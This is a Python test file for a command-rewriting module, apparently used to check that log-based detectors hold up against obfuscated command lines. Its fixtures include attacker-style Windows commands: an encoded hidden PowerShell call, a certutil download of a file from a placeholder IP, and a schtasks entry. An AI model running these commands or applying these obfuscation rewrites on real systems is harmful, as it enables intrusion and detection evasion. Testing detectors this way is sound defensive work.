"""Rewrites keep the effect of a command: without the noise it is the same command."""

import json
import random
import re
from html import unescape

import pytest

from loglm_bridge.lab.evaluate import command_rewrites
from loglm_bridge.lab.evaluate.command_rewrites import REWRITES, rewritten

COMMANDS = (
    "whoami /groups",
    "cmd.exe /c net localgroup administrators",
    "powershell.exe -NoProfile -ExecutionPolicy Bypass -Command Invoke-Expression something",
    "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA",
    r"C:\Windows\System32\certutil.exe -urlcache -split -f http://192.0.2.7/a.bin C:\Users\Public\a.exe",
    'schtasks /create /tn "a task" /tr calc.exe',
    "",
)
#: Rewrite -> a function that removes its noise.
REMOVE_NOISE = {
    "mixed_case": lambda c: c.lower(),
    "quotes": lambda c: c.replace('""', ""),
    "carets": lambda c: c.replace("^", ""),
    "backticks": lambda c: c.replace("`", ""),
    "option_signs": lambda c: re.sub(r"(?<=\s)[/-]", "-", c),
    "path_variants": lambda c: re.sub(r"\\\.\\|\\\\", r"\\", c),
    "blanks": lambda c: re.sub(" +", " ", c),
}


@pytest.mark.parametrize("name", REMOVE_NOISE)
@pytest.mark.parametrize("command", COMMANDS)
def test_without_the_noise_a_command_is_the_same(name, command):
    for seed in range(20):
        changed = REWRITES[name](command, random.Random(seed))
        assert REMOVE_NOISE[name](changed) == REMOVE_NOISE[name](command)
        assert changed == REWRITES[name](command, random.Random(seed))


@pytest.mark.parametrize("name", REWRITES)
def test_every_rewrite_changes_some_command(name):
    assert any(REWRITES[name](c, random.Random(s)) != c for c in COMMANDS for s in range(10))


def test_encoded_text_and_addresses_are_not_changed():
    for seed in range(50):
        for rewrite in REWRITES.values():
            assert COMMANDS[3].split()[-1] in rewrite(COMMANDS[3], random.Random(seed))
            assert "http://192.0.2.7/a.bin" in rewrite(COMMANDS[4], random.Random(seed))


def test_synonyms_of_powershell_options_are_prefixes_or_aliases():
    full = {"encodedcommand", "noprofile", "executionpolicy", "windowstyle", "noninteractive", "command"}
    short = {"ec", "ep", "enc"}  # aliases that are no prefix, or of two words
    for spellings in command_rewrites._SYNONYMS.values():
        assert all(any(f.startswith(s.lower()) for f in full) or s.lower() in short for s in spellings)


def test_an_event_stays_valid_and_only_its_command_changes():
    xml = "<Event><Data Name='Image'>C:\\a.exe</Data><Data Name='CommandLine'>whoami &amp;&amp; hostname</Data></Event>"
    changed = rewritten(xml, command_rewrites.mixed_case, random.Random(2))
    assert changed != xml
    assert unescape(changed).lower() == unescape(xml).lower()
    assert "&amp;&amp;" in changed
    flat = json.dumps({"Image": "C:\\a.exe", "CommandLine": "whoami", "ParentCommandLine": "explorer"})
    event = json.loads(rewritten(flat, command_rewrites.quotes, random.Random(2)))
    assert event["CommandLine"].replace('""', "") == "whoami" != event["CommandLine"]
    assert event["ParentCommandLine"] == "explorer"


@pytest.mark.parametrize(
    "raw", ["", "no command", "{broken", "[1]", '{"CommandLine": 5}', "<Data Name='CommandLine'>a</Data>"]
)
def test_an_event_that_cannot_be_rewritten_gives_none(raw):
    assert rewritten(raw, command_rewrites.mixed_case, random.Random(1)) is None
